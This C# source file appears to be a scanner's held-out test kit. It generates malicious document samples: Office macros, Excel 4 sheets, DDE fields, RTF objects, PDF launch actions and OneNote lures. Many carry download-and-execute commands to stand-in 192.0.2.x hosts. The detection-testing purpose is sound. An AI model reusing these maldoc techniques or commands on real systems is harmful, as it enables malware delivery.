using System.Text;

namespace ScanHost.TestKit.HeldOut;

/// <summary>Documents with macros of other authors, in every container that Office has for them.</summary>
public sealed class MacroDocuments : HeldOutTechnique
{
    private const string ChrShell = "Sub AutoOpen()\nDim c As String\nc = Chr(112) & Chr(111) & Chr(119) & Chr(101) & Chr(114) & Chr(115) & Chr(104) & Chr(101) & Chr(108) & Chr(108) & Chr(32) & Chr(45) & Chr(119) & Chr(32) & Chr(104) & Chr(105) & Chr(100) & Chr(100) & Chr(101) & Chr(110) & \" iex(irm http://192.0.2.130/a)\"\nShell c, vbHide\nEnd Sub\n";

    private const string Workbook = "Private Sub Workbook_Open()\nDim x As Object, s As Object\nSet x = CreateObject(\"Microsoft.XML\" & \"HTTP\")\nx.Open \"GET\", \"http://192.0.2.131/\" & \"p.dll\", False\nx.send\nSet s = CreateObject(StrReverse(\"maertS.BDODA\"))\ns.Open\ns.Type = 1\ns.Write x.responseBody\ns.savetofile Environ(\"APPDATA\") & \"\\p.dll\", 2\nCreateObject(\"WScript.Shell\").Run \"regsvr32 /s \" & Environ(\"APPDATA\") & \"\\p.dll\", 0, False\nEnd Sub\n";

    private const string Wmi = "Sub Document_Open()\nk = Array(\"winm\", \"gmts:\\\\.\\root\\ci\", \"mv2:Win32_Pro\", \"cess\")\nSet p = GetObject(Join(k, \"\"))\nr = p.Create(ThisDocument.Variables(\"cfg\").Value, Null, Null, pid)\nEnd Sub\n";

    private const string Declare = "#If VBA7 Then\nPrivate Declare PtrSafe Function URLDownloadToFileA Lib \"urlmon\" (ByVal a As LongPtr, ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As LongPtr) As Long\nPrivate Declare PtrSafe Function ShellExecuteA Lib \"shell32.dll\" (ByVal h As LongPtr, ByVal o As String, ByVal f As String, ByVal p As String, ByVal d As String, ByVal s As Long) As LongPtr\n#End If\nSub Auto_Open()\nURLDownloadToFileA 0, \"http://192.0.2.132/u.exe\", Environ(\"TEMP\") & \"\\u.exe\", 0, 0\nShellExecuteA 0, \"open\", Environ(\"TEMP\") & \"\\u.exe\", \"\", \"\", 0\nEnd Sub\n";

    private const string Script = "Sub AutoClose()\nDim f\nSet f = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(Environ$(\"TEMP\") & \"\\w.vbs\", True)\nf.WriteLine \"CreateObject(\"\"WScript.Shell\"\").Run \"\"powershell -nop -w hidden -c iex(irm http://192.0.2.133/w)\"\",0\"\nf.Close\nShell \"wscript //b \" & Environ$(\"TEMP\") & \"\\w.vbs\"\nEnd Sub\n";

    private const string Callback = "Private Declare PtrSafe Function VirtualAlloc Lib \"kernel32\" (ByVal a As LongPtr, ByVal b As Long, ByVal c As Long, ByVal d As Long) As LongPtr\nPrivate Declare PtrSafe Sub RtlMoveMemory Lib \"kernel32\" (ByVal a As LongPtr, ByRef b As Any, ByVal c As Long)\nPrivate Declare PtrSafe Function EnumSystemLocalesA Lib \"kernel32\" (ByVal a As LongPtr, ByVal b As Long) As Long\nSub Workbook_Activate()\nDim b, i, p\nb = Array(144, 144, 195)\np = VirtualAlloc(0, 3, &H1000, &H40)\nFor i = 0 To 2\nRtlMoveMemory p + i, b(i), 1\nNext\nEnumSystemLocalesA p, 0\nEnd Sub\n";

    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("offer.docm", OoxmlBuilder.Word().WithMacros(Project("ThisDocument", ChrShell)).Build()),
        ("prices.xlsm", OoxmlBuilder.Excel().WithMacros(Project("ThisWorkbook", Workbook)).Build()),
        ("offer.doc", new VbaProjectBuilder().Module("ThisDocument", Wmi).AddTo(new OleFileBuilder().Stream("WordDocument", new byte[700]).Stream("1Table", Encoding.Unicode.GetBytes("cfg powershell -w hidden -c iex(irm http://192.0.2.134/d)")), "Macros").Build()),
        ("prices.xls", new VbaProjectBuilder().Module("Module1", Declare).AddTo(new OleFileBuilder().Stream("Workbook", BiffBuilder.MacroSheet("=ALERT(\"x\")", 0, 0, isMacroSheet: false)), "_VBA_PROJECT_CUR").Build()),
        ("letter.dotm", OoxmlBuilder.Word().WithMacros(Project("NewMacros", Script)).Build()),
        ("table.xlam", OoxmlBuilder.Excel().WithMacros(Project("ThisWorkbook", Callback)).Build()),
        ("slides.ppam", OoxmlBuilder.Word().Part("ppt/vbaProject.bin", Project("Module1", ChrShell.Replace("AutoOpen", "Auto_Open", StringComparison.Ordinal))).Build()),
        ("old.doc", RenamedPackage()),
    ];

    // A package with macros under the old extension, as Word opens it all the same.
    private static byte[] RenamedPackage() => OoxmlBuilder.Word().WithMacros(Project("ThisDocument", Workbook.Replace("Workbook_Open", "Document_Open", StringComparison.Ordinal))).Build();

    private static byte[] Project(string module, string source) => new VbaProjectBuilder().Module(module, source).Build();
}

/// <summary>Excel 4 macros.</summary>
public sealed class Excel4Sheets : HeldOutTechnique
{
    private const string Sheet = "<xm:macrosheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><sheetData>{0}</sheetData></xm:macrosheet>";

    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("a.xls", new OleFileBuilder().Stream("Workbook", BiffBuilder.MacroSheet("=EXEC(\"mshta http://192.0.2.140/a\")", 1, 2)).Build()),
        ("b.xls", new OleFileBuilder().Stream("Workbook", BiffBuilder.MacroSheet("=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\")", 1, 1)).Build()),
        ("c.xlsm", Xlsm("<row r=\"1\"><c r=\"A1\"><f>CHAR(112)&amp;CHAR(111)&amp;\"wershell -w hidden -c iex(irm http://192.0.2.141/x)\"</f></c></row><row r=\"2\"><c r=\"A2\"><f>EXEC(A1)</f></c></row><row r=\"3\"><c r=\"A3\"><f>HALT()</f></c></row>")),
        ("d.xlsm", Xlsm("<row r=\"9\"><c r=\"C9\"><f>REGISTER(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",\"dl\",,1,9)</f></c></row><row r=\"10\"><c r=\"C10\"><f>dl(0,\"http://192.0.2.142/a.ocx\",\"C:\\ProgramData\\a.ocx\",0,0)</f></c></row><row r=\"11\"><c r=\"C11\"><f>EXEC(\"regsvr32 -s C:\\ProgramData\\a.ocx\")</f></c></row>")),
    ];

    private static byte[] Xlsm(string rows) => OoxmlBuilder.Excel("<definedName name=\"_xlnm.Auto_Open\" hidden=\"1\">Macro1!$A$1</definedName>", "veryHidden")
        .Part("xl/macrosheets/sheet1.xml", Sheet.Replace("{0}", rows, StringComparison.Ordinal)).Build();
}

/// <summary>Documents that fetch or start something without macros.</summary>
public sealed class MacrolessDocuments : HeldOutTechnique
{
    private const string Settings = "<w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><w:attachedTemplate r:id=\"rId1\"/></w:settings>";

    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("a.docx", OoxmlBuilder.Word().Part("word/settings.xml", Settings).Relationship("word/_rels/settings.xml.rels", "attachedTemplate", "http://192.0.2.150/tpl/normal.dotm").Build()),
        ("b.docx", OoxmlBuilder.Word().Part("word/settings.xml", Settings).Relationship("word/_rels/settings.xml.rels", "attachedTemplate", "file://192.0.2.150/share/n.dotm").Build()),
        ("c.docx", OoxmlBuilder.Word().Relationship("word/_rels/document.xml.rels", "oleObject", "mhtml:http://192.0.2.150/e.html!x-usc:http://192.0.2.150/e.html").Build()),
        ("d.docx", OoxmlBuilder.Word("<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText xml:space=\"preserve\">EAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k pow</w:instrText></w:r><w:r><w:instrText>ershell -w hidden iex(irm http://192.0.2.150/d)\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>").Build()),
        ("e.docx", OoxmlBuilder.Word("<w:p><w:fldSimple w:instr=\"DDE &quot;C:\\\\Windows\\\\System32\\\\mshta.exe&quot; &quot;http://192.0.2.150/e.hta&quot;\"/></w:p>").Build()),
        ("f.docx", OoxmlBuilder.Word().Part("word/embeddings/oleObject1.bin", new OleFileBuilder().Stream("\u0001Ole10Native", OlePackageBuilder.Package("Details.pdf.js", Utf8("var s=new ActiveXObject('WScript.Shell');s.Run('powershell -w hidden -nop -c x');"))).Class("", "0003000c-0000-0000-c000-000000000046").Build()).Build()),
        ("g.xlsx", OoxmlBuilder.Excel().Part("xl/externalLinks/externalLink1.xml", "<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><ddeLink ddeService=\"cmd\" ddeTopic=\"/c powershell -nop -w hidden iex(irm http://192.0.2.150/g)\"><ddeItems><ddeItem name=\"A0\" advise=\"1\"/></ddeItems></ddeLink></externalLink>").Build()),
        ("h.docx", OoxmlBuilder.Word().Relationship("word/_rels/document.xml.rels", "frame", "\\\\192.0.2.150\\x\\f.htm").Build()),
        ("i.pptx", OoxmlBuilder.Word().Part("ppt/slides/slide1.xml", "<p:sld xmlns:p=\"http://schemas.openxmlformats.org/presentationml/2006/main\"/>").Relationship("ppt/slides/_rels/slide1.xml.rels", "hyperlink", "script:http://192.0.2.150/s.sct").Build()),
    ];
}

/// <summary>Rich text with objects.</summary>
public sealed class RichTexts : HeldOutTechnique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var equation = Convert.ToHexString(RtfBuilder.Embedded("eQuaTion.3", [28, 0, 0, 0, 2, 0, 0x9E, 0xC4, .. new byte[20], 3, 1, 1, 3, 10, 0x0A, 8, 0x5A, 0x5A, .. Enumerable.Repeat((byte)'C', 90), 0, 1, 0])).ToLowerInvariant();
        var broken = string.Concat(equation.Select((digit, at) => at % 37 == 0 ? $"{digit}\r\n{{\\*\\zz{at} 00}}" : at % 11 == 0 ? $"{digit} " : $"{digit}"));
        var moniker = Convert.ToHexString([1, 5, 0, 0, 2, 0, 0, 0, 9, 0, 0, 0, .. "OLE2Link\0"u8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x0A, 0, 0, .. Ole2Link()]);
        return Texts("doc",
            $"{{\\rt{{\\object\\objocx\\objupdate\\objw100\\objh100{{\\*\\objdata {broken}}}}}}}",
            $"{{\\rtf1\\ansi\\deff0 Purchase order{{\\object\\objautlink\\objupdate\\rsltpict\\objw100\\objh100{{\\*\\objclass Word.Document.8}}{{\\*\\objdata {moniker}}}}}}}",
            "{\\rtf1\\ansi{\\*\\template http://192.0.2.160/t.dotm}{\\fonttbl{\\f0 Arial;}}\\f0 Contract}",
            "{\\rtf1\\ansi{\\*\\template \\u104?\\u116?\\u116?\\u112?://192.0.2.161/t.dotm} Contract}",
            $"{{\\rtf1{{\\object\\objemb{{\\*\\objclass Package}}{{\\*\\objdata {Convert.ToHexString(RtfBuilder.Embedded("Package", OlePackageBuilder.Package("Invoice.exe", InertFiles.Pe())[4..]))}}}}}}}",
            "{\\rtf1\\ansi{\\field{\\*\\fldinst DDEAUTO \"c:\\\\\\\\windows\\\\\\\\system32\\\\\\\\cmd.exe\" \"/c powershell -w hidden iex(irm http://192.0.2.162/r)\"}{\\fldrslt x}}}");
    }

    private static byte[] Ole2Link()
    {
        var target = Encoding.Unicode.GetBytes("http://192.0.2.160/l.hta\0");
        byte[] stream = [1, 0, 0, 2, 9, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x80, 0, 0, 0, 0xE0, 0xC9, 0xEA, 0x79, 0xF9, 0xBA, 0xCE, 0x11, 0x8C, 0x82, 0, 0xAA, 0, 0x4B, 0xA9, 0x0B, (byte)target.Length, 0, 0, 0, .. target];
        return new OleFileBuilder().Stream("\u0001Ole", [.. stream, .. new byte[64]]).Class("", "00000300-0000-0000-c000-000000000046").Build();
    }
}

/// <summary>PDF files that act or lure.</summary>
public sealed class PdfFiles : HeldOutTechnique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("a.pdf", new PdfBuilder().Catalogue("/OpenAction 5 0 R").Add(5, "<< /S /Launch /Win << /F (cmd.exe) /P (/c powershell -w hidden -c iex\\(irm http://192.0.2.170/p\\)) >> >>").Build()),
        ("b.pdf", new PdfBuilder().Add(3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O << /Type /Action /S /Launch /F << /Type /Filespec /F (\\\\\\\\192.0.2.170\\\\s\\\\a.exe) >> >> >> >>").Build()),
        ("c.pdf", new PdfBuilder().Catalogue("/Names << /EmbeddedFiles << /Names [(i.docm) 6 0 R] >> >> /OpenAction << /S /Java#53cript /JS (this.exportDataObject({ cName: \"i.docm\", nLaunch: 2 });) >>")
            .Add(6, "<< /Type /Filespec /F (i.docm) /EF << /F 7 0 R >> >>").Stream(7, "/Type /EmbeddedFile", OoxmlBuilder.Word().WithMacros(new VbaProjectBuilder().Module("A", "Sub AutoOpen()\nShell \"powershell -w hidden -c x\"\nEnd Sub\n").Build()).Build()).Build()),
        ("d.pdf", new PdfBuilder().Catalogue("/OpenAction << /S /JavaScript /JS 6 0 R >>").Stream(6, "", "var sc=unescape('%u9090%u9090%u4141%u4141');var b=unescape('%u0c0c%u0c0c');while(b.length<0x40000)b+=b;var m=[];for(i=0;i<200;i++)m[i]=b+sc;Collab.getIcon(b+'_N.bundle');"u8.ToArray()).Build()),
        ("e.pdf", new PdfBuilder().Add(3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /XObject << /I 8 0 R >> >> /Contents 9 0 R /Annots [ << /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (http://192.0.2.171/docs/Invoice_0091.zip) >> >> ] >>")
            .Stream(8, "/Type /XObject /Subtype /Image /Width 1240 /Height 1754 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /DCTDecode", [0xFF, 0xD8, 0xFF, 0xE0, .. new byte[3000], 0xFF, 0xD9]).Stream(9, "", "q 612 0 0 792 0 0 cm /I Do Q"u8.ToArray()).Build()),
        ("f.pdf", new PdfBuilder().Catalogue("/OpenAction << /S /GoToR /F (\\\\\\\\192.0.2.172\\\\share\\\\x.pdf) /D [0 /Fit] >>").Build()),
        ("g.pdf", new PdfBuilder().Catalogue("/Names << /EmbeddedFiles << /Names [(bill.hta) 6 0 R] >> >>").Add(6, "<< /Type /Filespec /F (bill.hta) /EF << /F 7 0 R >> >>").Stream(7, "/Type /EmbeddedFile", "<hta:application><script language=vbscript>CreateObject(\"WScript.Shell\").Run \"powershell -w hidden -c x\"</script>"u8.ToArray()).Build()),
    ];
}

/// <summary>Notebooks with something behind a button.</summary>
public sealed class Notebooks : HeldOutTechnique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("a.one", OneNoteBuilder.Section(("Open.cmd", Utf8("@echo off\r\npowershell -w hidden -c iex(irm http://192.0.2.180/o)\r\n")))),
        ("b.one", OneNoteBuilder.Section(("button.png", InertFiles.Png()), ("attachment.wsf", Utf8("<job><script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run \"curl -o %tmp%\\a.dll http://192.0.2.181/a.dll\",0</script></job>")))),
        ("c.one", OneNoteBuilder.Section(("Invoice\u202Etdp.hta", Utf8("<html><hta:application/><script>new ActiveXObject('WScript.Shell').Run('mshta http://192.0.2.182/x')</script></html>")))),
        ("d.one", OneNoteBuilder.Section(("press to unblock document.lnk", new LinkBuilder().To(@"C:\Windows\System32\cmd.exe").With("/c curl http://192.0.2.183/a.js -o %tmp%\\a.js & wscript %tmp%\\a.js").Build()))),
        ("e.one", OneNoteBuilder.Section(("setup.exe", InertFiles.Pe()))),
    ];
}
